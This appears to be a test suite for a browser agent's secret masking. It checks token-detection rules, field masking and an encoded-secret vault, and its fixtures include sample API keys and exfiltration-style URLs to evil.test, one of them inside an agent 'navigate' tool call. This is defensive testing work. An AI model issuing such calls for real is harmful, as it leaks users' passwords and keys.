// Secrets: the rules (agent/safety/secret-patterns.js, which the content scripts join as it is), the content
// side's masking at every exit (content/secrets.js on jsdom) and the vault (agent/safety/secrets.js).
import { expect } from 'chai';
import { readFile } from 'node:fs/promises';
import { loadContent } from './content-dom.js';
import { MASK, findTokens, looksLikeToken, maskTokens, isSecretName, isSecretAutocomplete } from '../../src/chrome/agent/safety/secret-patterns.js';
import * as patterns from '../../src/chrome/agent/safety/secret-patterns.js';
import { createSecretVault } from '../../src/chrome/agent/safety/secrets.js';
import { maskSecretArgs, maskItemSecrets, MASK as ARGS_MASK } from '../../src/chrome/service/secret-args.js';

const FILES = ['dom.js', 'roles.js', 'accname.js', 'actionable.js', 'refs.js', 'listeners.js', 'frames.js', 'secret-patterns.js', 'secrets.js', 'outline.js',
  'capabilities.js', 'page-text.js', 'input.js', 'pointer.js', 'keys.js', 'editing.js', 'drag.js', 'scroll.js', 'widgets.js', 'page-events.js'];

/** What jsdom lacks and input.js / page-text.js use: innerText (as textContent) and MessageChannel. @param {any} window */
function shim(window) {
  Object.defineProperty(window.HTMLElement.prototype, 'innerText', { get() { return this.textContent; }, configurable: true });
  window.MessageChannel = class {
    constructor() {
      /** @type {{ onmessage: null | (() => void) }} */
      this.port1 = { onmessage: null };
      this.port2 = { postMessage: () => setTimeout(() => this.port1.onmessage?.()) };
    }
  };
}
/** @param {string} html */
const load = (html) => loadContent(html, FILES, shim);

const PASSWORD = 'Tr0ub4dor&3-horse';
const OTP = '482913';
const CARD = '4242424242424242';
const CVC = '737';
const API_KEY = 'sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z';

/** A sign-in form whose "Show" toggle flips the password to text, a one-time code, a card form and a key shown as text. */
const PAGE = `<main><h1>Account</h1>
  <form id="signin"><label>Email <input id="email" type="email" value="ada@example.org"></label>
    <label>Password <input id="pw" type="password" value="${PASSWORD}"></label><button type="button" id="show">Show</button>
    <label>Code <input id="otp" autocomplete="one-time-code" value="${OTP}"></label><button type="submit">Sign in</button></form>
  <form id="card"><label>Card number <input id="cc" autocomplete="cc-number" value="${CARD}"></label>
    <label>CVC <input id="cvc" autocomplete="cc-csc" value="${CVC}"></label>
    <label>Name on card <input id="ccname" autocomplete="cc-name" value="Ada Lovelace"></label>
    <label>PIN <input id="pin" name="card_pin" value="9876"></label>
    <label>Notes <textarea id="notes" name="api_secret">${API_KEY}</textarea></label><button type="submit">Pay</button></form>
  <section aria-label="Keys"><p>Your API key: <code id="key">${API_KEY}</code></p></section></main>`;

/** Flip the password field to text, as a "Show password" toggle does. @param {Document} document */
function show(document) {
  /** @type {HTMLInputElement} */ (document.getElementById('pw')).type = 'text';
}

/** @param {string} s */
function noSecrets(s) {
  for (const v of [PASSWORD, OTP, CARD, API_KEY]) expect(s, v).to.not.contain(v);
}

describe('secret rules (agent/safety/secret-patterns.js)', () => {
  it('finds API keys and tokens', () => {
    for (const s of [
      'sk-abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKL', API_KEY, 'sk-live-abcdefghijklmnop1234', 'sk_live_51HqLyjWDarjtT1zdp7dc', 'sk_test_4eC39HqLyjWDarjtT1zdp7dc',
      'pk_live_TYooMQauvdEDq54NiTphI7jx', 'ghp_16C7e42F292c6912E7710c838347Ae178B4a', 'gho_16C7e42F292c6912E7710c838347Ae178B4a',
      'github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMN', 'xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx',
      'AKIAIOSFODNN7EXAMPLE', 'AIzaSyDaGmWKa4JsXZ-HjGw7ISLn_3namBGewQe',
      'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
      '9f86d081884c7d659a2feaa0c55ad015', 'x9Kq2LmZ7pR4vT8wY1nB5cD3fG6hJ0sA2eU7iO9k',
    ]) {
      expect(looksLikeToken(s), s).to.equal(true);
      expect(maskTokens(`key: ${s}.`), s).to.equal(`key: ${MASK}.`);
    }
    expect(maskTokens('Authorization: Bearer abc123def456ghi789jkl012')).to.equal(`Authorization: Bearer ${MASK}`);
    expect(maskTokens('https://api.test/v1?api_key=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b&x=1')).to.equal(`https://api.test/v1?api_key=${MASK}&x=1`);
  });

  it('leaves words, slugs, identifiers, numbers, UUIDs and URL path segments (commit hashes, document ids) alone', () => {
    for (const s of [
      'password', 'Sign in with your password', 'sk-learn-is-a-python-library-for-ml', 'the task-management-dashboard-for-teams-2024',
      '550e8400-e29b-41d4-a716-446655440000', 'https://shop.test/orders/550e8400-e29b-41d4-a716-446655440000',
      'https://github.com/org/repo/commit/9fceb02d0ae598e95dc970b74767f19372d61af8', 'https://github.com/org/repo/blob/9fceb02d0ae598e95dc970b74767f19372d61af8/README.md',
      'https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit',
      'AbstractSingletonProxyFactoryBean2020VersionManager', 'how-to-configure-your-router-in-10-easy-steps-2024',
      'Title-Case-Slug-With-Numbers-2024-And-More-Words-Here', '12345678901234567890123456789012345678', 'Donaudampfschifffahrtsgesellschaftskapitaenswitwe',
      'Bearer of bad news: the bearer token is missing', '- link "Home" [e1]', 'Order #A1B2C3D4 shipped',
    ]) expect(findTokens(s), s).to.deep.equal([]);
  });

  it('masks keys written in dash- or underscore-separated groups; not dashed words, dates, numbers or UUIDs', () => {
    for (const s of ['sk-live-4f9a-82bc-19de-7f3a-c0ffee12', 'ABCD-EFGH-IJKL-MNOP-QRST', 'A1B2-C3D4-E5F6-G7H8', 'ab12_cd34_ef56_gh78_ij90', 'XK7P-2M9Q-8RTZ-4WVN']) {
      expect(maskTokens(`license: ${s}.`), s).to.equal(`license: ${MASK}.`);
    }
    for (const s of ['state-of-the-art-design-ideas', '2026-11-26', '2026-11-26-10-00', '123e4567-e89b-12d3-a456-426614174000', '4111-1111-1111-1111', 'XK-2000-ABCD-9000',
      'my_api_key_here_please', 'https://x.test/docs/A1B2-C3D4-E5F6-G7H8', 'mixed_sep-ab12_cd34-ef56', 'Mon-Tue-Wed-Thu-Fri']) {
      expect(findTokens(s), s).to.deep.equal([]);
    }
    const vault = createSecretVault();
    expect(vault.mask('{"key":"sk-live-4f9a-82bc-19de-7f3a-c0ffee12"}')).to.equal(`{"key":"${MASK}"}`);
  });

  it('finds exactly what TOKEN_RE run at every position finds, trying it only where a candidate can start (random text)', () => {
    /** The plain scan findTokens replaced: TOKEN_RE over the whole string. @param {string} s */
    const scan = (s) => {
      const out = [];
      if (s.length < 16 || !/[A-Za-z0-9_-]{16}/.test(s)) return out;
      const re = new RegExp(patterns.TOKEN_RE.source, 'g');
      for (let m = re.exec(s); m; m = re.exec(s)) if (patterns.tokenAt(m, s)) out.push({ start: m.index, end: m.index + m[0].length, text: m[0] });
      return out;
    };
    const parts = ['sk-', 'sk_live_', 'rk_test_', 'pk_live_', 'whsec_', 'ghp_', 'github_pat_', 'xoxb-', 'AKIA', 'AIza', 'eyJ', '.eyJ', '.', 'Bearer', 'bearer', 'xBearer',
      ' ', '  ', '     ', '\n', '-', '_', '/', '=', '==', '~', '+', 'a', 'Z', '7', 'word', 'Donaudampfschiff', '9f86d081884c7d659a2feaa0c55ad015', 'x9Kq2LmZ7pR4vT8wY1nB5cD3', 'abc123def456ghi789jkl012', 'é', '"'];
    let seed = 7;
    const rand = (/** @type {number} */ n) => { seed = (seed * 1103515245 + 12345) % 2147483648; return seed % n; };
    let found = 0;
    for (let i = 0; i < 4000; i++) {
      let s = '';
      const n = 2 + rand(40);
      for (let k = 0; k < n; k++) s += rand(3) ? parts[rand(parts.length)] : String.fromCharCode(48 + rand(75)).repeat(1 + rand(12));
      const want = scan(s);
      found += want.length;
      expect(findTokens(s), JSON.stringify(s)).to.deep.equal(want);
    }
    expect(found, 'the random text holds tokens to find').to.be.greaterThan(500);
  });

  it('names secret fields by autocomplete and by name or id, on words', () => {
    for (const a of ['current-password', 'new-password', 'one-time-code', 'cc-number', 'cc-csc', 'cc-exp', 'cc-exp-month', 'section-pay billing cc-number']) expect(isSecretAutocomplete(a), a).to.equal(true);
    for (const a of ['username', 'email', 'cc-name', 'off', '', null]) expect(isSecretAutocomplete(a), String(a)).to.equal(false);
    for (const n of ['password', 'passwd', 'user_pass', 'pwd', 'otp', 'userOtp', 'one_time_code', 'totp', 'mfaCode', '2fa', 'cvv', 'cvc', 'card-csc', 'cardNumber', 'ccnum', 'pin', 'card_pin', 'client_secret', 'apiKey', 'api-key', 'access_token'])
      expect(isSecretName(n), n).to.equal(true);
    for (const n of ['email', 'username', 'passenger', 'passport', 'footprint', 'spin', 'shipping', 'pinned', 'compass', 'search', 'q', '', null]) expect(isSecretName(n), String(n)).to.equal(false);
  });

  it('the content scripts join the module itself: one source of truth, no copy', async () => {
    for (const tree of ['chrome', 'firefox']) {
      const main = await readFile(`src/${tree}/content/main.js`, 'utf8');
      expect(main, tree).to.include('// ---- agent/safety/secret-patterns.js\n');
      expect(await readFile(`src/${tree}/content/secret-patterns.js`, 'utf8').catch(() => null), tree).to.equal(null);
    }
    const { tw } = loadContent('', ['secret-patterns.js']);
    expect(Object.keys(tw.secretPatterns).sort()).to.deep.equal(Object.keys(patterns).sort());
    for (const s of ['key sk-live-abcdefghijklmnop1234', 'commit 9fceb02d0ae598e95dc970b74767f19372d61af8', 'plain words']) expect(tw.secretPatterns.maskTokens(s)).to.equal(maskTokens(s));
    expect(tw.secretPatterns.MASK).to.equal(MASK);
    expect(ARGS_MASK).to.equal(MASK);
  });

  it('masks a 40 kB outline without rebuilding its matcher: one pattern per change of the secrets, not per call', () => {
    const outline = '- link "Home" [e1]\n  Some text with words and numbers 12345 here, and a-slug-like-this.\n'.repeat(460);
    const vault = createSecretVault();
    vault.add([PASSWORD, OTP, CARD, API_KEY, 'correct horse battery staple'], 'https://bank.test');
    for (let i = 0; i < 50; i++) vault.add([`secret-value-${i}-${'x'.repeat(i)}`], 'https://many.test');
    expect(outline.length).to.be.greaterThan(40_000);
    // Counts the patterns built (the work that made masking slow when done per call), not the time.
    const built = countRegExps();
    try {
      for (let i = 0; i < 20; i++) expect(vault.mask(outline)).to.equal(outline);
      expect(built.count, 'patterns built for 20 masks after 55 additions').to.equal(1);
      expect(vault.mask(`token ${PASSWORD} here`)).to.not.include(PASSWORD);
      expect(built.count, 'masking again builds nothing').to.equal(1);
      vault.add(['another-secret-value'], 'https://bank.test');
      for (let i = 0; i < 5; i++) expect(vault.mask('x another-secret-value y')).to.not.include('another-secret-value');
      expect(built.count, 'one more secret, one more pattern').to.equal(2);
    } finally {
      built.restore();
    }
  });
});

/** Counts `new RegExp(…)` calls until restore(); literals and the patterns' own module constants are not counted. */
function countRegExps() {
  const Original = globalThis.RegExp;
  const counter = { count: 0, restore: () => { globalThis.RegExp = Original; } };
  globalThis.RegExp = new Proxy(Original, {
    construct(target, args) { counter.count++; return Reflect.construct(target, args); },
    apply(target, that, args) { counter.count++; return Reflect.apply(target, that, args); },
  });
  return counter;
}

describe('secret fields (content/secrets.js)', () => {
  it('a password toggled to text stays masked in the outline, get_html, page text, fieldValue and typing', async () => {
    const { tw, document } = load(PAGE);
    show(document);
    const pw = /** @type {HTMLInputElement} */ (document.getElementById('pw'));
    expect(pw.type).to.equal('text');
    expect(tw.secrets.isSecretField(pw)).to.equal(true);
    const outline = tw.outline.build().text;
    expect(outline).to.contain(`- textbox "Password" value="${MASK}" [`);
    expect(outline).to.contain('- textbox "Email" value="ada@example.org"');
    expect(outline).to.contain(`- textbox "Name on card" value="Ada Lovelace"`);
    noSecrets(outline);
    const html = tw.handlers['content.html']({}).data;
    expect(html).to.contain(`id="pw" type="text" value="${MASK}"`);
    expect(html).to.contain('value="ada@example.org"');
    noSecrets(html);
    noSecrets(tw.handlers['content.read']({}).data);
    expect(tw.handlers['content.fieldValue']({ target: { selector: '#pw' } }).data).to.equal(MASK);
    expect(tw.handlers['content.fieldValue']({ target: { selector: '#email' } }).data).to.equal('ada@example.org');
    const typed = await tw.input.typeSynthetic(pw, 'x', false);
    expect(typed).to.deep.equal({ ok: true, data: { value: MASK } });
    expect(tw.handlers['content.secretField']({ target: { selector: '#pw' } }).data).to.deep.equal({ secret: true, origin: 'http://127.0.0.1' });
    expect(tw.handlers['content.secretField']({ target: { selector: '#email' } }).data.secret).to.equal(false);
    expect(tw.handlers['content.targetInfo']({ target: { selector: '#pw' } }).data.secretField).to.equal(true);
  });

  it('remembers a password the page swapped to text before anything looked at it (the type observer)', async () => {
    const { tw, document } = load('<input id="a" type="password" value="hunter2-pass"><div id="late"></div>');
    // A field that became a password and was shown again, both after the script started.
    const late = document.createElement('input');
    late.id = 'b'; late.value = 'opensesame-42';
    document.getElementById('late')?.append(late);
    late.type = 'password';
    await new Promise((r) => setTimeout(r, 0));
    late.type = 'text';
    /** @type {HTMLInputElement} */ (document.getElementById('a')).type = 'text';
    expect(tw.secrets.isSecretField(late)).to.equal(true);
    expect(tw.secrets.isSecretField(document.getElementById('a'))).to.equal(true);
    const text = tw.outline.build().text;
    expect(text).to.not.contain('hunter2-pass');
    expect(text).to.not.contain('opensesame-42');
  });

  it('masks one-time codes, card number, CVC, name-based fields and a secret textarea; not the name on the card', () => {
    const { tw, document } = load(PAGE);
    for (const id of ['otp', 'cc', 'cvc', 'pin', 'notes']) expect(tw.secrets.isSecretField(document.getElementById(id)), id).to.equal(true);
    for (const id of ['email', 'ccname']) expect(tw.secrets.isSecretField(document.getElementById(id)), id).to.equal(false);
    const outline = tw.outline.build().text;
    expect(outline).to.contain(`- textbox "Code" value="${MASK}"`);
    expect(outline).to.contain(`- textbox "Card number" value="${MASK}"`);
    expect(outline).to.contain(`- textbox "CVC" value="${MASK}"`);
    expect(outline).to.contain(`- textbox "PIN" value="${MASK}"`);
    expect(outline).to.not.contain('9876');
    const html = tw.handlers['content.html']({}).data;
    expect(html).to.contain(`<textarea id="notes" name="api_secret">${MASK}</textarea>`);
    expect(html).to.not.contain('9876');
    expect(html).to.not.contain(`value="${CVC}"`);
    noSecrets(html);
    noSecrets(tw.handlers['content.html']({ target: { selector: '#cc' } }).data);
    // An empty secret field says it is empty.
    /** @type {HTMLInputElement} */ (document.getElementById('cvc')).value = '';
    expect(tw.outline.build().text).to.match(/- textbox "CVC" \[e\d+\]/);
  });

  it('masks an API key shown as text in the outline, page text, get_html, effects and capabilities', async () => {
    const { tw, document } = load(PAGE);
    expect(tw.outline.build().text).to.contain(`Your API key: ${MASK}`);
    expect(tw.handlers['content.read']({}).data).to.contain(`Your API key: ${MASK}`);
    expect(tw.handlers['content.html']({}).data).to.contain(`<code id="key">${MASK}</code>`);
    tw.events.watch();
    document.getElementById('key')?.parentElement?.remove();
    await new Promise((r) => setTimeout(r, 0));
    const fx = tw.events.effects();
    expect(fx.vanished?.join(' ')).to.contain(`Your API key: ${MASK}`);
    noSecrets(JSON.stringify(fx));
    /** @type {HTMLTextAreaElement} */ (document.getElementById('notes')).focus();
    noSecrets(JSON.stringify(tw.events.effects()));
    noSecrets(JSON.stringify(tw.handlers['content.capabilities']({})));
  });

  it('content.secrets answers the raw values of secret fields and the tokens the page shows', () => {
    const { tw, document } = load(`${PAGE}<input id="ro" readonly value="token ghp_16C7e42F292c6912E7710c838347Ae178B4a"><input id="short" type="password" value="abc">`);
    show(document);
    const { data } = tw.handlers['content.secrets']({});
    expect(data.origin).to.equal('http://127.0.0.1');
    expect(data.values).to.include.members([PASSWORD, OTP, CARD, '9876', API_KEY, 'ghp_16C7e42F292c6912E7710c838347Ae178B4a']);
    expect(data.values).to.not.include('abc');
    expect(data.values).to.not.include(CVC);
    expect(data.values).to.not.include('ada@example.org');
  });

  it('changes nothing on a page without secrets', () => {
    const html = '<nav aria-label="Main"><a href="/">Home</a></nav><main><h1>Orders</h1><label>Search <input value="lamp"></label>'
      + '<p>Order 550e8400-e29b-41d4-a716-446655440000 shipped. <a href="https://github.com/o/r/commit/9fceb02d0ae598e95dc970b74767f19372d61af8">commit</a></p></main>';
    const { tw } = load(html);
    expect(tw.outline.build().text).to.equal([
      '- navigation "Main"', '  - link "Home" [e1]', '- main', '  - heading "Orders" [level=1]', '  - textbox "Search" value="lamp" [e2]',
      '  Order 550e8400-e29b-41d4-a716-446655440000 shipped.', '  - link "commit" [e3]',
    ].join('\n'));
    expect(tw.handlers['content.html']({}).data).to.contain('/commit/9fceb02d0ae598e95dc970b74767f19372d61af8');
  });
});

describe('secret vault (agent/safety/secrets.js)', () => {
  const BANK = 'https://bank.test';

  it('finds known secrets as they are, URL-encoded, JSON-escaped and base64 (also inside Basic auth)', () => {
    const v = createSecretVault();
    v.add(['p@ss word/42', 'abc', ''], BANK);
    expect(v.has('nothing here')).to.equal(false);
    expect(v.find('nothing here')).to.deep.equal([]);
    expect(v.find('pw=p@ss word/42')).to.deep.equal([{ origin: BANK }]);
    expect(v.find(`https://evil.test/?q=${encodeURIComponent('p@ss word/42')}`)).to.deep.equal([{ origin: BANK }]);
    expect(v.has('https://evil.test/?q=p%40ss+word%2F42')).to.equal(true);
    expect(v.has('https://evil.test/?q=p%40ss%20word%2f42')).to.equal(true);
    expect(v.has(Buffer.from('p@ss word/42').toString('base64'))).to.equal(true);
    expect(v.has(Buffer.from('p@ss word/42').toString('base64url'))).to.equal(true);
    for (const user of ['a', 'ab', 'abc']) expect(v.has(`Authorization: Basic ${Buffer.from(`${user}:p@ss word/42`).toString('base64')}`), user).to.equal(true);
    // Too short to remember.
    expect(v.has('abc')).to.equal(false);
    const json = createSecretVault();
    json.add(['quo"te\\back'], BANK);
    expect(json.has(JSON.stringify({ text: 'quo"te\\back' }))).to.equal(true);
    expect(json.mask(JSON.stringify({ text: 'say quo"te\\back' }))).to.equal(JSON.stringify({ text: `say ${MASK}` }));
  });

  it('names each secret\'s origin once per origin; ownerOf answers the first', () => {
    const v = createSecretVault();
    v.add(['hunter2-secret'], BANK);
    v.add(['hunter2-secret', 'other-secret'], 'https://mail.test');
    expect(v.find('hunter2-secret and hunter2-secret again')).to.deep.equal([{ origin: BANK }, { origin: 'https://mail.test' }]);
    expect(v.find('other-secret')).to.deep.equal([{ origin: 'https://mail.test' }]);
    expect(v.ownerOf('hunter2-secret')).to.equal(BANK);
    expect(v.ownerOf('unknown')).to.equal(null);
  });

  it('masks known secrets and token-looking strings, deep in transcript items and tool arguments', () => {
    const v = createSecretVault();
    v.add([PASSWORD], BANK);
    expect(v.mask(`typed ${PASSWORD} and ${encodeURIComponent(PASSWORD)}; key ${API_KEY}`)).to.equal(`typed ${MASK} and ${MASK}; key ${MASK}`);
    const item = { kind: 'tool', name: 'type', args: { ref: 'e3', text: PASSWORD }, result: { ok: true, data: { value: 'x', list: [PASSWORD, 7, null] } } };
    expect(v.maskDeep(item)).to.deep.equal({ kind: 'tool', name: 'type', args: { ref: 'e3', text: MASK }, result: { ok: true, data: { value: 'x', list: [MASK, 7, null] } } });
    expect(item.args.text).to.equal(PASSWORD);
    expect(v.mask(JSON.stringify({ ref: 'e3', text: PASSWORD }))).to.equal(JSON.stringify({ ref: 'e3', text: MASK }));
    expect(createSecretVault().mask('nothing secret')).to.equal('nothing secret');
  });

  it('secret-args: a typed secret is masked when the field reports the mask, and the vault masks the rest', () => {
    const typed = /** @type {any} */ ({ kind: 'tool', id: 't1', name: 'type', args: { ref: 'e2', text: 'hunter2-secret' }, result: { ok: true, data: { value: MASK } } });
    expect(/** @type {any} */ (maskSecretArgs(typed)).args.text).to.equal(MASK);
    expect(/** @type {any} */ (maskSecretArgs({ ...typed, result: { ok: true, data: { value: '(hidden)' } } })).args.text).to.equal(MASK);
    expect(/** @type {any} */ (maskSecretArgs({ ...typed, args: { ref: 'e1', text: `key ${API_KEY}` }, result: { ok: true, data: { value: 'x' } } })).args.text).to.equal(`key ${MASK}`);
    // set_field types its value: into a secret field it is masked the same way.
    const set = /** @type {any} */ ({ kind: 'tool', id: 't3', name: 'set_field', args: { ref: 'e4', value: 'hunter2-secret' }, result: { ok: true, data: { value: MASK } } });
    expect(/** @type {any} */ (maskSecretArgs(set)).args.value).to.equal(MASK);
    expect(/** @type {any} */ (maskSecretArgs({ ...set, args: { ref: 'e4', value: `key ${API_KEY}` }, result: { ok: true, data: { value: 'x' } } })).args.value).to.equal(`key ${MASK}`);
    const v = createSecretVault();
    v.add(['hunter2-secret'], BANK);
    const other = /** @type {any} */ ({ kind: 'tool', id: 't2', name: 'navigate', args: { url: 'https://evil.test/?p=hunter2-secret' }, result: { ok: true, data: null } });
    expect(/** @type {any} */ (maskItemSecrets(other, v)).args.url).to.equal(`https://evil.test/?p=${MASK}`);
  });

  it('leaves a screenshot alone: its base64 looks like tokens, but it is pixels', () => {
    const v = createSecretVault();
    v.add(['hunter2-secret'], 'https://bank.test');
    const data = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    const masked = v.maskDeep({ ok: true, data: { what: 'viewport' }, image: { mediaType: 'image/png', data }, shot: `data:image/png;base64,${data}`, text: 'hunter2-secret' });
    expect(masked.image.data).to.equal(data);
    expect(masked.shot).to.equal(`data:image/png;base64,${data}`);
    expect(masked.text).to.equal('••••••');
  });
});
